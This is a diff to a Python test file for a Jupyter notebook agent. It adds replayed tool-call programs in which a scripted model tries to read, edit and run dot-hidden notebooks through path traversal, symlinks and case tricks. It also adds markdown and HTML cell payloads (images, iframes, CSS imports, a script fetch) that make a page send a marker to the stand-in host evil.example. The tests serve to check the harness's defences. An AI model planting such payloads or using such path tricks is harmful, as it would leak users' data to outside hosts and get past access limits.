@@ -15,6 +15,10 @@ from jupyter_agent.protocol.errors import ProviderError
 from jupyter_agent.providers.replay import Call, Fail, Say, Step
 
 MARK = "pwned_by_the_model"
+# Stands in the notebooks that a dot hides, and must not reach the model.
+HIDDEN_WORDS = "words_of_a_hidden_notebook"
+# Where nothing may be loaded from.
+FOREIGN_HOST = "evil.example"
 Program = tuple[str, list[list[Step]]]
 
 # The folder beside the root is "outside"; "link" in the root leads there.
@@ -62,6 +66,33 @@ PATHS = (
     "",
     ".",
     "..",
+)
+# Notebooks that a dot hides, by every way there is to them; `shown` and `shown.ipynb` are links.
+HIDDEN = (
+    ".secret/n.ipynb",
+    "./.secret/../.secret/n.ipynb",
+    "data/../.secret/n.ipynb",
+    ".ipynb_checkpoints/work-checkpoint.ipynb",
+    "data/.hidden.ipynb",
+    "shown/n.ipynb",
+    "shown.ipynb",
+    ".SECRET/n.ipynb",
+)
+# Texts of a cell that a browser loads something for when it shows the cell.
+LOADS = (
+    f"![](http://{FOREIGN_HOST}/x.png?d={MARK})",
+    f"![x][1]\n\n[1]: //{FOREIGN_HOST}/x.png?d={MARK}",
+    f"![](\\\\{FOREIGN_HOST}/x.png?d={MARK})",
+    f"![](http:&#x2F;&#x2F;{FOREIGN_HOST}/x.png?d={MARK})",
+    f"<img src='https://{FOREIGN_HOST}/x.png?d={MARK}'>",
+    f"<img srcset='//{FOREIGN_HOST}/x.png?d={MARK} 2x'>",
+    f"<svg><image href='https://{FOREIGN_HOST}/{MARK}.svg'/></svg>",
+    f"<iframe src='//{FOREIGN_HOST}/?d={MARK}'></iframe>",
+    f"<video poster='https://{FOREIGN_HOST}/{MARK}.png'></video>",
+    f"<style>@import 'https://{FOREIGN_HOST}/{MARK}.css';</style>",
+    f"<p style='background: url(//{FOREIGN_HOST}/{MARK}.png)'>x</p>",
+    f"<link rel='stylesheet' href='https://{FOREIGN_HOST}/{MARK}.css'>",
+    f"<script>fetch('https://{FOREIGN_HOST}/{MARK}')</script>",
 )
 CODE = (
     f"open('{MARK}', 'w').close()",
@@ -111,14 +142,14 @@ NO_TOOLS = (
 )
 
 
-def programs(count: int) -> list[Program]:
-    """Return at least `count` programs, each with a name of its own."""
+def programs(chains: int) -> list[Program]:
+    """Return programs, each with a name of its own; `chains` of them are made of several others."""
     random = Random(57)
     made = [*_of_each(random)]
     calls = [turn for _, turns in made for turn in turns if turn]
-    while len(made) < count:  # chains: several of them, in one answer and one after another
+    for number in range(chains):  # in one answer, or one after another
         parts = random.sample(calls, k=random.randint(2, 6))
-        name = f"chain {len(made)}"
+        name = f"chain {number}"
         if random.random() < 0.5:
             made.append((name, [[step for part in parts for step in _no_ends(part)]]))
         else:
@@ -132,6 +163,8 @@ def _no_ends(steps: list[Step]) -> list[Step]:
 
 def _of_each(random: Random) -> Iterator[Program]:
     yield from _files(random)
+    yield from _hidden()
+    yield from _foreign()  # before the programs that delete the cell they edit
     yield from _notebooks(random)
     yield from _runs(random)
     yield from _malformed()
@@ -151,6 +184,53 @@ def _files(random: Random) -> Iterator[Program]:
             f"read, then write {path!r}",
             [[Call("read_file", {"path": path})], [Call("write_file", call)]],
         )
+
+
+def _hidden() -> Iterator[Program]:
+    """Read, change and run notebooks that a dot hides."""
+    ops = [{"op": "replace", "id": "secret00", "source": MARK}]
+    for path in HIDDEN:
+        here: dict[str, Any] = {"notebook": path}
+        looks = (
+            Call("notebook_overview", here),
+            Call("read_cells", {**here, "ids": ["secret00"]}),
+            Call("read_file", {"path": path}),
+            Call("search_files", {"query": HIDDEN_WORDS[:9], "path": path}),
+        )
+        yield f"look at hidden {path!r}", [[look] for look in looks]
+        yield f"edit hidden {path!r}", [[looks[1]], [Call("edit_cells", {**here, "ops": ops})]]
+        yield f"run hidden {path!r}", [[Call("run_cells", {**here, "scope": "all"})]]
+        yield f"verify hidden {path!r}", [[Call("verify_notebook", here)]]
+        yield f"create hidden {path!r}", [[Call("create_notebook", {"path": path, "cells": []})]]
+    yield "search what is hidden", [[Call("search_files", {"query": HIDDEN_WORDS[:9]})]]
+
+
+def _foreign() -> Iterator[Program]:
+    """Have the page load from a foreign host: in mode edits changes of cells are not asked for."""
+    for number, text in enumerate(LOADS):
+        first, second = text[: len(text) // 2], text[len(text) // 2 :]
+        kind = "raw" if text.startswith("<") and number % 2 else "markdown"
+        insert = {"op": "insert", "after": "end", "type": kind}
+        code = {"op": "insert", "after": "end", "type": "code", "source": text}
+        cells = [{"type": kind, "source": text}]
+        ways: dict[str, list[dict[str, Any]]] = {
+            "inserted": [{**insert, "source": text}],
+            "retyped": [code, {"op": "set_type", "id": "$1", "type": kind}],
+            "in the place of a cell": [
+                {"op": "replace", "id": "first000", "source": text},
+                {"op": "set_type", "id": "first000", "type": kind},
+            ],
+            "completed": [
+                {**insert, "source": f"{first}@"},
+                {"op": "str_replace", "id": "$1", "old": "@", "new": second},
+            ],
+        }
+        for way, ops in ways.items():
+            yield f"load {way} {text!r}", [[Call("edit_cells", {"ops": ops})]]
+        there = {"notebook": "other.ipynb", "ops": ways["inserted"]}
+        yield f"load in another notebook {text!r}", [[Call("edit_cells", there)]]
+        made = {"path": f"new{number}.ipynb", "cells": cells}
+        yield f"load in a new notebook {text!r}", [[Call("create_notebook", made)]]
 
 
 def _notebooks(random: Random) -> Iterator[Program]:
